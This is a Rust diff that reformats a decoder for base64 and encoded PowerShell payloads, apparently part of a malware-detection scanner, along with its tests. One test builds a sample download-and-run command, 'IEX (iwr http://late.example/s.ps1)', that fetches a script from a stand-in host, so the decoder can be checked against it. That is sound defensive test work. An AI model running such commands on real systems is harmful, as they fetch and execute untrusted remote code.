@@ -368,7 +368,8 @@ static B64_RUN: LazyLock<Regex> =
 
 /// Base64 wrapped over several lines (PEM bodies, `base64` output, here-strings): one payload.
 static B64_BLOCK: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?:[A-Za-z0-9+/]{40,}\r?\n[ \t]*){2,}[A-Za-z0-9+/]{4,}={0,2}").expect("static regex")
+    Regex::new(r"(?:[A-Za-z0-9+/]{40,}\r?\n[ \t]*){2,}[A-Za-z0-9+/]{4,}={0,2}")
+        .expect("static regex")
 });
 
 /// One decoding layer of `text`: the payloads of encoded-command switches, and every long base64
@@ -384,9 +385,10 @@ pub fn decode_layer(text: &str) -> Vec<String> {
     // PowerShell always encodes these as UTF-16LE; other interpreters' `-e` means "execute".
     // Splitting a long command into arguments costs more than a look for a switch starting
     // `-e`, `/e` or a dash-like character followed by `e`; without one there is nothing to split for.
-    let hint = text.as_bytes().windows(2).any(|w| {
-        matches!(w[0], b'-' | b'/' | 0x93 | 0x94) && (w[1] | 0x20) == b'e'
-    });
+    let hint = text
+        .as_bytes()
+        .windows(2)
+        .any(|w| matches!(w[0], b'-' | b'/' | 0x93 | 0x94) && (w[1] | 0x20) == b'e');
     let args = if hint { split_args(text) } else { Vec::new() };
     let mut done: Vec<&str> = Vec::new();
     for w in args.windows(2) {
@@ -423,7 +425,10 @@ pub fn decode_layer(text: &str) -> Vec<String> {
             continue;
         }
         // A line of a wrapped block, decoded with its block.
-        if blocks.iter().any(|b| b.start <= m.start() && m.end() <= b.end) {
+        if blocks
+            .iter()
+            .any(|b| b.start <= m.start() && m.end() <= b.end)
+        {
             continue;
         }
         // Skip runs that are just words/paths: base64 payloads mix case and digits.
@@ -920,16 +925,24 @@ mod tests {
         let b = base64::engine::general_purpose::STANDARD.encode(&gz);
         assert!(decoded(&format!("FromBase64String('{b}') GzipStream")).contains("bad.example"));
         // A long compressed script (past the first bytes looked at) is inflated whole ...
-        let script = format!("{}\nIEX (iwr http://late.example/s.ps1)", "Write-Output 'padding line';\n".repeat(40));
+        let script = format!(
+            "{}\nIEX (iwr http://late.example/s.ps1)",
+            "Write-Output 'padding line';\n".repeat(40)
+        );
         let b = base64::engine::general_purpose::STANDARD
             .encode(miniz_oxide::deflate::compress_to_vec(script.as_bytes(), 6));
-        assert!(decoded(&format!("DeflateStream(FromBase64String('{b}'))")).contains("late.example"));
+        assert!(
+            decoded(&format!("DeflateStream(FromBase64String('{b}'))")).contains("late.example")
+        );
         // ... a compressed program (an MZ header, then binary) is not text at all.
         let mut pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
         pe.extend((0..4000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
         let b = base64::engine::general_purpose::STANDARD
             .encode(miniz_oxide::deflate::compress_to_vec(&pe, 6));
-        assert_eq!(decoded(&format!("DeflateStream(FromBase64String('{b}'))")), "");
+        assert_eq!(
+            decoded(&format!("DeflateStream(FromBase64String('{b}'))")),
+            ""
+        );
         assert!(bytes_to_text(&pe).is_none());
     }
 
@@ -1124,4 +1137,3 @@ mod tests {
         );
     }
 }
-
